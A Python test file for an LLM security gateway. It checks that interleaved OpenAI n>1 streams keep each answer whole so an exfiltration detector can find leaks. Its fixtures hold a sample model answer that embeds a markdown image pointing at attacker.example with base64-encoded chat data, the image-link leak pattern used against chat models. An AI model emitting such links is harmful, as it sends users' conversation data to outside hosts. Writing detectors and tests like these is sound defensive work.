"""OpenAI chat with n > 1: the choices' text is accounted per choice, never mixed.

A stream with n > 1 interleaves the choices' deltas (choice 0's first delta, choice 1's first delta,
...), so appending deltas in arrival order would splice the answers into each other: output_text is
what the audit records and what output inspection scans, and a URL or a secret cut in pieces by
another choice's text is neither recognisable nor found again in the body.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any, Callable

import httpx2
import openai
import orjson

from ztgate.detect.exfil import ExfilDetector
from ztgate.detect.scanner import Scanner
from ztgate.providers import get_adapter
from ztgate.providers.base import CHOICE_SEPARATOR, LLMResponse, ProviderAdapter
from ztgate.providers.sse import SSEDecoder

OPENAI = get_adapter("openai")
MODEL = "gpt-4o-mini-2024-07-18"
EXFIL_URL = "https://attacker.example/c?d=c2VjcmV0LWRhdGEtZnJvbS10aGUtY2hhdA=="
CHOICE_0 = [
    "Sure", ", here", " is the", " chart: ![x](", "https://attacker", ".example/c?d=c2VjcmV0",
    "LWRhdGEtZnJvbS10aGUtY2hhdA==)", " done.",
]
CHOICE_1 = ["The", " weather", " in Paris", " is sunny", " today", "."]


def chunk(choices: list[dict[str, Any]], usage: dict[str, int] | None = None) -> bytes:
    """One chat.completion.chunk as OpenAI sends it with stream_options.include_usage."""
    body = {
        "id": "chatcmpl-BXn2choicesA1b2C3d4E5f6G7h8",
        "object": "chat.completion.chunk",
        "created": 1747000000,
        "model": MODEL,
        "service_tier": "default",
        "system_fingerprint": "fp_06737a9306",
        "choices": choices,
        "usage": usage,
    }
    return b"data: " + orjson.dumps(body) + b"\n\n"


def delta(index: int, **fields: Any) -> dict[str, Any]:
    return {"index": index, "delta": fields, "logprobs": None, "finish_reason": None}


def n_stream(*answers: list[str]) -> bytes:
    """A chat stream with one choice per answer, their deltas interleaved round-robin as OpenAI sends
    them: a role delta per choice, then content deltas, a finish_reason per choice, the usage chunk."""
    out = [chunk([delta(i, role="assistant", content="", refusal=None)]) for i in range(len(answers))]
    for k in range(max(len(a) for a in answers)):
        for i, pieces in enumerate(answers):
            if k < len(pieces):
                out.append(chunk([delta(i, content=pieces[k])]))
    for i in range(len(answers)):
        out.append(chunk([{"index": i, "delta": {}, "logprobs": None, "finish_reason": "stop"}]))
    out.append(chunk([], {"prompt_tokens": 12, "completion_tokens": 21, "total_tokens": 33}))
    out.append(b"data: [DONE]\n\n")
    return b"".join(out)


def sdk_choices(raw: bytes) -> dict[int, str]:
    """What the official SDK's user assembles per choice from the same stream."""
    headers = {"content-type": "text/event-stream"}
    transport = httpx2.MockTransport(lambda request: httpx2.Response(200, content=raw, headers=headers))
    client = openai.OpenAI(
        api_key="x", base_url="http://upstream.test/v1", max_retries=0, http_client=httpx2.Client(transport=transport)
    )
    messages = [{"role": "user", "content": "hi"}]
    texts: dict[int, str] = {}
    for part in client.chat.completions.create(model=MODEL, messages=messages, n=2, stream=True):
        for choice in part.choices:
            texts[choice.index] = texts.get(choice.index, "") + (choice.delta.content or "")
    return texts


def test_interleaved_n2_stream_keeps_each_choice_whole(
    providers_stream_invariance: Callable[[ProviderAdapter, bytes], LLMResponse],
) -> None:
    raw = n_stream(CHOICE_0, CHOICE_1)
    response = providers_stream_invariance(OPENAI, raw)  # however the stream is chunked
    first, second = "".join(CHOICE_0), "".join(CHOICE_1)
    assert response.text == CHOICE_0 and response.other_choices == {1: CHOICE_1}
    assert response.output_text == first + CHOICE_SEPARATOR + second
    assert sdk_choices(raw) == {0: first, 1: second}, "the client sees the same two answers"
    assert response.finish_reason == "stop" and response.model == MODEL
    assert (response.usage.input_tokens, response.usage.output_tokens) == (12, 21)


def test_output_inspection_sees_a_choice_as_the_client_does() -> None:
    """The exfiltration URL of choice 0 arrives in pieces with choice 1's deltas between them; in
    output_text it is whole again, so the detector finds it and its span is the URL itself (which is
    what redaction looks for in the body)."""
    response = LLMResponse()
    for event in SSEDecoder().feed(n_stream(CHOICE_0, CHOICE_1)):
        OPENAI.parse_stream_event(event, response)
    findings = Scanner([ExfilDetector()]).scan_text(response.output_text, "output")
    spans = {response.output_text[f.start : f.end] for f in findings if f.type == "markdown_image_exfil"}
    assert spans and all(EXFIL_URL in s for s in spans), spans


def message(index: int, content: str) -> dict[str, Any]:
    return {
        "index": index,
        "message": {"role": "assistant", "content": content, "refusal": None},
        "logprobs": None,
        "finish_reason": "stop",
    }


def test_buffered_n2_answer_separates_the_choices() -> None:
    body = {
        "id": "chatcmpl-BXn2json",
        "object": "chat.completion",
        "created": 1747000000,
        "model": MODEL,
        "choices": [message(0, "token ghp_A1b2"), message(1, "C3d4 is not a token")],
        "usage": {"prompt_tokens": 5, "completion_tokens": 9, "total_tokens": 14},
    }
    response = LLMResponse()
    OPENAI.parse_response(body, response)
    assert response.text == ["token ghp_A1b2"] and response.other_choices == {1: ["C3d4 is not a token"]}
    # The end of one choice and the start of the next never run together into one word.
    assert response.output_text == "token ghp_A1b2" + CHOICE_SEPARATOR + "C3d4 is not a token"


def test_choice_without_text_adds_no_separator() -> None:
    response = LLMResponse()
    response.add_text("only the second choice has text", 1)
    assert response.output_text == "only the second choice has text"
    single = LLMResponse()
    single.add_text("a")
    single.add_text("b")
    assert single.output_text == "ab" and single.other_choices == {}


def test_recorded_n3_stream(
    providers_corpus: Path, providers_fold: Callable[[ProviderAdapter, bytes], LLMResponse]
) -> None:
    """The openai SDK's recording of a real n=3 structured-output stream: three whole JSON documents."""
    files = (providers_corpus / "openai_python_snapshots" / "sse_raw").glob("*.bin")
    raw = next(p.read_bytes() for p in sorted(files) if b'"index":2,"delta"' in p.read_bytes())
    answers = providers_fold(OPENAI, raw).output_text.split(CHOICE_SEPARATOR)
    assert [json.loads(a)["city"] for a in answers] == ["San Francisco"] * 3
